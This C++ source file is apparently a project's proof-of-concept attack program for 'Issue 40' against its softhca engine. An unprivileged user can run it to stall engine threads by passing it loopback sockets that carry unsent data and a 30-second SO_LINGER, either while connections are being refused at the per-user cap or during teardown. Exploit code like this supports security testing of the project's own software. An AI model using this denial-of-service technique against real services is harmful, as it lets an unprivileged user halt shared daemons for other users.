// Issue 40: descriptors still queued on a client's connection when the engine closes it.
// Run as an unprivileged user:
//   linger_attack ENGINE_SOCKET refused CAP COUNT
//   linger_attack ENGINE_SOCKET teardown COUNT
// The program makes COUNT TCP sockets on loopback (to a listener of its own that never
// reads) with unsent data and SO_LINGER of 30 s: whoever drops the last reference of one
// waits up to 30 s for the data to go. The engine's close of a connection drops the
// messages still queued on it, and the kernel runs the release of the descriptors they
// carry on the thread that drops them.
//   refused   the user's cap of control connections (--limits user_connections) is
//             CAP: the program holds CAP connections, then for each socket connects
//             another and, before the engine accepts and refuses it, sends a message
//             carrying the socket;
//   teardown  for each socket, a connection of its own that sends an empty message
//             (which the engine reads as the connection's end) and then a message
//             carrying the socket.
// Either way the program closes its own descriptors of the socket and the connection at
// once. Printed: "sending" before the first, "sent: N" (messages that went out), then
// "holding" (the program waits to be killed).
#include "attack_verbs.hpp"
#include "softhca/device_interface/socket_io.hpp"

#include <arpa/inet.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <vector>

namespace {

// COUNT connected TCP sockets whose peers never read, lingering 30 s on close, each
// filled until it takes nothing more. The peers take little (their windows close at
// once), so what is sent past that stays unsent, and the FIN behind it.
std::vector<int> lingering_sockets(int count) {
    const int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof(address);
    const int small = 4096;
    ::setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
    if (listener < 0 || ::bind(listener, reinterpret_cast<sockaddr*>(&address), length) != 0 ||
        ::listen(listener, 64) != 0 ||
        ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length) != 0)
        attack::die("a loopback listener");
    std::vector<int> sockets;
    for (int i = 0; i < count; ++i) {
        const int sock = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (sock < 0 || ::connect(sock, reinterpret_cast<sockaddr*>(&address), length) != 0)
            attack::die("connect on loopback");
        if (::accept4(listener, nullptr, nullptr, SOCK_CLOEXEC) < 0) // kept, never read
            attack::die("accept on loopback");
        ::setsockopt(sock, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
        const linger lingering{1, 30};
        if (::setsockopt(sock, SOL_SOCKET, SO_LINGER, &lingering, sizeof(lingering)) != 0)
            attack::die("SO_LINGER");
        sockets.push_back(sock);
    }
    // Filled twice, a moment apart: the first fill may still be on its way into the
    // peers' buffers.
    static char chunk[65536];
    for (int round = 0; round < 2; ++round) {
        for (const int sock : sockets)
            while (::send(sock, chunk, sizeof(chunk), MSG_NOSIGNAL | MSG_DONTWAIT) > 0) {
            }
        ::usleep(200 * 1000);
    }
    return sockets;
}

int connect_engine(const char* path) {
    const int fd = ::socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    std::snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
    if (fd < 0 || ::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0)
        attack::die("connect to the engine");
    return fd;
}

} // namespace

int main(int argc, char** argv) {
    const bool refused = argc == 5 && std::strcmp(argv[2], "refused") == 0;
    const bool teardown = argc == 4 && std::strcmp(argv[2], "teardown") == 0;
    if (!refused && !teardown) {
        std::fprintf(stderr, "usage: %s ENGINE_SOCKET refused CAP COUNT | teardown COUNT\n",
                     argv[0]);
        return 2;
    }
    const std::vector<int> lingering = lingering_sockets(std::atoi(argv[refused ? 4 : 3]));
    if (refused) {
        for (int held = 0, cap = std::atoi(argv[3]); held < cap; ++held)
            connect_engine(argv[1]); // kept open: the user's cap
        ::usleep(200 * 1000);        // accepted, and counted, by now
    }
    std::printf("sending\n");
    std::fflush(stdout);
    int sent = 0;
    const uint64_t garbage = 0;
    for (const int sock : lingering) {
        const int engine = connect_engine(argv[1]);
        if (teardown)
            (void)::send(engine, nullptr, 0, MSG_NOSIGNAL); // an empty message: the end
        if (softhca::device_interface::send_message(engine, &garbage, sizeof(garbage), sock) ==
            sizeof(garbage))
            ++sent;
        // The message holds the socket's last reference now: whoever drops it waits.
        ::close(sock);
        ::close(engine);
    }
    std::printf("sent: %d\nholding\n", sent);
    std::fflush(stdout);
    for (;;)
        ::pause();
}
